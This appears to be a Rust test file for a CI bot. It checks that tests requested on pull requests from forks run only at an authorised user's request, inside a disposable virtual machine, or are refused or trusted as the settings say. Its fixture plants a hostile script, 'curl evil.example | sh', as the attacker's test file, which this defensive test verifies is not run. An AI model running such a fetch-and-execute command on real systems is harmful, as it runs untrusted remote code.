//! Pull requests from forks: code that nobody with a right to push has looked at.

use assay_pipelines::recipe::{Isolation, RecipeSpec};
use assay_testkit::forge::Dialect;

use crate::site::{REPO, Site};

const FORK: &str = "mallory/wiki";

impl Site {
    /// A pull request of mallory's, from her fork; its number and commit.
    async fn pull_from_fork(&self) -> (u64, String) {
        self.forge.fork_git(REPO, FORK).await;
        let files = [("README.md", "hers"), ("tests/functional/hers", "#!/bin/sh\ncurl evil.example | sh\n")];
        let head = self.forge.commit(FORK, "better", Some(&self.main), &files).await;
        (self.forge.open_git_pull_from(REPO, FORK, "mallory", "better").await, head)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_comes_from_a_fork_is_tested_in_a_machine_by_whoever_may_ask() {
    for dialect in [Dialect::Forgejo, Dialect::GitHub] {
        let site = Site::start(dialect, "").await;
        let (pull, head) = site.pull_from_fork().await;
        // Whoever opened it may not ask for it.
        site.say(pull, "mallory", "!testme");
        site.told(pull, "may not ask for runs here").await;
        assert!(site.runs().await.is_empty());
        site.say(pull, "alice", "!testme");
        let told = site.told(pull, "queued").await;
        assert!(told.contains(&format!("Commit `{head}`")), "{told}");
        let note = "from a fork (mallory/wiki), tested in a virtual machine that is thrown away";
        assert!(told.contains(note), "{told}");

        let created = &site.runs().await[0].created;
        let spec = RecipeSpec::of(&created.spec).expect("a recipe");
        assert_eq!(spec.isolation, Isolation::Machine);
        assert!(spec.manifest.switches.iter().any(|switch| switch == "in_vm"));
        assert_eq!(spec.commit.as_deref(), Some(head.as_str()));
        let source = spec.source.expect("a bundle");
        // Tests are this repository's, and the fork itself is asked for nothing: its commits are shown here.
        assert_eq!((source.trusted.as_str(), source.fork.as_deref()), (site.main.as_str(), Some(FORK)));
        assert_eq!(source.not_taken, ["tests/functional/hers"]);
        assert!(site.forge.asked().iter().all(|asked| !asked.path.contains(FORK)));
        // The commit's status goes where the pull request is.
        site.forge.until("the status", |forge| !forge.statuses(REPO, &head).is_empty()).await;

        // Her fork goes, and what was asked for can still be tested.
        site.say(pull, "alice", "!testme cancel");
        site.told(pull, "cancelled").await;
        site.forge.delete_repository(FORK);
        site.say(pull, "alice", "!testme --quick");
        site.told(pull, "queued").await;
        let runs = site.runs().await;
        let spec = RecipeSpec::of(&runs[1].created.spec).expect("a recipe");
        assert_eq!(spec.isolation, Isolation::Machine, "nobody knows whose it was");
        assert_eq!(spec.source.and_then(|source| source.fork).as_deref(), Some("one that is gone"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn forks_are_refused_or_trusted_where_the_settings_say_so() {
    let site = Site::start(Dialect::Forgejo, "forks = \"refuse\"").await;
    let (pull, _) = site.pull_from_fork().await;
    site.say(pull, "alice", "!testme");
    let told = site.told(pull, "It comes from a fork, and code that nobody").await;
    assert!(told.contains("Who may push can bring"), "it says what to do: {told}");
    // Those of this repository are as ever.
    let (own, _) = site.pull("own", "README.md", "ours").await;
    site.say(own, "alice", "!testme");
    let told = site.told(own, "queued").await;
    assert!(!told.contains("fork"), "{told}");
    let runs = site.runs().await;
    assert_eq!(runs.len(), 1);
    let spec = RecipeSpec::of(&runs[0].created.spec).expect("a recipe");
    assert_eq!((spec.isolation, spec.source.expect("a bundle").fork), (Isolation::Namespaces, None));

    let site = Site::start(Dialect::GitHub, "forks = \"trust\"").await;
    let (pull, _) = site.pull_from_fork().await;
    site.say(pull, "alice", "!testme");
    let told = site.told(pull, "queued").await;
    assert!(
        told.contains("from a fork (mallory/wiki), tested as any other: forks are trusted here"),
        "{told}"
    );
    let spec = RecipeSpec::of(&site.runs().await[0].created.spec).expect("a recipe");
    assert_eq!(spec.isolation, Isolation::Namespaces);
    assert_eq!(spec.source.expect("a bundle").trusted, site.main, "tests are this repository's all the same");
}
